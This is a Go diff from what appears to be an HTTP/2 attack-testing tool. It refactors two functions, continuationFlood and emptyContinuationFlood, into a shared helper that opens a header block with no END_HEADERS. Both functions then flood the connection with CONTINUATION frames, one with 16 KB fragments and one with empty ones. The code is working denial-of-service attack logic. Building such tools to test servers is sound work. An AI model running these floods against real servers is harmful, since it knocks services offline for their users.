@@ -153,17 +153,22 @@ func continuationFlood(ctx context.Context, addr string, _ attackOpts) (*h2raw.R
 		return nil, err
 	}
 	frag := sensitiveFields(4, 4000, "cont") // ~16 KB, one frame
-	var id uint32
-	id = c.NewStream()
-	block := c.EncodeHeaders(h2raw.Request(methodEmpty))
-	err = c.Queue(func(fr *http2.Framer) error {
-		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true})
-	})
+	id, err := openHeaderBlock(c)
 	if err != nil {
 		return c, nil
 	}
 	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteContinuation(id, false, frag) })
 	return c, nil
+}
+
+// openHeaderBlock queues HEADERS for a new call whose header block does not
+// end (no END_HEADERS): only CONTINUATION frames may follow.
+func openHeaderBlock(c *h2raw.Recorder) (uint32, error) {
+	id := c.NewStream()
+	block := c.EncodeHeaders(h2raw.Request(methodEmpty))
+	return id, c.Queue(func(fr *http2.Framer) error {
+		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true})
+	})
 }
 
 // emptyContinuationFlood is continuationFlood with empty fragments, which a
@@ -173,12 +178,7 @@ func emptyContinuationFlood(ctx context.Context, addr string, _ attackOpts) (*h2
 	if err != nil {
 		return nil, err
 	}
-	var id uint32
-	id = c.NewStream()
-	block := c.EncodeHeaders(h2raw.Request(methodEmpty))
-	err = c.Queue(func(fr *http2.Framer) error {
-		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true})
-	})
+	id, err := openHeaderBlock(c)
 	if err != nil {
 		return c, nil
 	}
